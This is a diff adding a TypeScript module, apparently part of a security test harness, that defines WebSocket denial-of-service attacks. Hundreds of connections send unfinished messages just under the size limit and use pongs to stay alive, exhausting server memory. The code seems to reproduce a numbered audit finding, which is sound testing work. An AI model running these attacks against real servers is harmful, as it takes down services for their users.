@@ -1,0 +1,72 @@
+import { randomBytes } from 'node:crypto'
+import type { Socket } from 'node:net'
+import { type Attack, rawConnection, sleep, type Target, taken, together } from './attack.ts'
+
+/** The head of a masked websocket frame. The mask is zero, so that the body is as it is. */
+function frameHead(opcode: number, isFinal: boolean, length: number): Buffer {
+  const first = (isFinal ? 0x80 : 0) | opcode
+  const mask = [0, 0, 0, 0]
+  if (length < 126) return Buffer.from([first, 0x80 | length, ...mask])
+  if (length < 65_536) return Buffer.from([first, 0x80 | 126, length >> 8, length & 255, ...mask])
+  const head = Buffer.alloc(10)
+  head[0] = first
+  head[1] = 0x80 | 127
+  head.writeBigUInt64BE(BigInt(length), 2)
+  return Buffer.concat([head, Buffer.from(mask)])
+}
+
+const [continuation, binary, pong] = [0, 2, 10] as const
+
+/** An upgraded connection, below any websocket library. */
+async function upgraded(target: Target, path: string): Promise<Socket> {
+  const connection = rawConnection(target)
+  connection.write(
+    [
+      `GET ${path} HTTP/1.1`,
+      'host: weft',
+      'connection: Upgrade',
+      'upgrade: websocket',
+      'sec-websocket-version: 13',
+      `sec-websocket-key: ${randomBytes(16).toString('base64')}`,
+      '',
+      '',
+    ].join('\r\n'),
+  )
+  await Promise.race([new Promise((resolve) => connection.once('data', resolve)), sleep(5_000)])
+  connection.resume()
+  return connection
+}
+
+const partBytes = 65_536
+
+/** Messages that never end: their parts are in memory, and pongs show that the client is there. */
+const incomplete = (path: (target: Target) => string, connections: number, bytes: number): Attack => ({
+  finding: 4,
+  documents: [],
+  prepare: async (target) => {
+    const part = Buffer.concat([frameHead(continuation, false, partBytes), Buffer.alloc(partBytes, 1)])
+    const first = Buffer.concat([frameHead(binary, false, 1), Buffer.of(0)])
+    let open: Socket[] = []
+    return async () => {
+      open = open.filter(({ destroyed, writable }) => !destroyed && writable)
+      await together(connections - open.length, async () => {
+        const connection = await upgraded(target, path(target))
+        connection.write(first)
+        for (let sent = 0; sent < bytes; sent += partBytes) connection.write(part)
+        open.push(connection)
+        await taken(connection)
+      })
+      for (const connection of open) connection.write(frameHead(pong, true, 0))
+      await sleep(100)
+    }
+  },
+})
+
+/** Just below the bound for one message. */
+const unsignedBytes = 1_900_000
+const signedBytes = 15_000_000
+
+const incompleteUnsigned = incomplete(() => '/hocuspocus', 300, unsignedBytes)
+const incompleteSigned = incomplete(({ token }) => `/sync/hostile/parts/main?token=${token}`, 40, signedBytes)
+
+export const messageAttacks = { incompleteUnsigned, incompleteSigned }
